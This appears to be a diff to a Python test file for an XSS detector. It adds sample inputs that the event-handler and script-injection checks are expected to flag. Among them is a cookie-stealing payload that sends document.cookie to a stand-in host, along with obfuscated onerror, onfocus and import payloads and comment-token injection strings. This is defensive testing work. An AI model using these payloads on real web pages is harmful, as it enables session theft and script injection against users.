@@ -217,5 +217,10 @@ def test_words_shaped_like_handlers_pass_and_handlers_that_run_do_not() -> None:
     for text in ("status: online=yes", "mode=dark; onboarding=done", '{"filter":"onsale=1"}', "x onclick=void(0)"):
         assert not is_event_handler(text), text
     for text in ("<w=\"/x=\"y>\"/OndbLcLick=`<`[confirm``]>z", "<img alt='x'><img src=xx:x onerror=aler", '"onzoom=',
-                 "\" onfocus=location=name autofocus x=\"", "<svg onload=alert>", "<x onclick=import('//e')>"):  # fmt: skip
+                 "\" onfocus=location=name autofocus x=\"", "<svg onload=alert>", "<x onclick=import('//e')>", "<img src onerror=fetch?.('//e/'+document.cookie)>"):  # fmt: skip
         assert is_event_handler(text), text
+
+
+def test_html_comment_tokens_in_script_are_read_as_browsers_do() -> None:
+    assert is_js_injection("';x-->alert(1)//")  # `x-- > alert(1)`: only a line-leading --> is a comment
+    assert is_js_injection("';<!--\nalert(1)//")  # <!-- comments out its line only
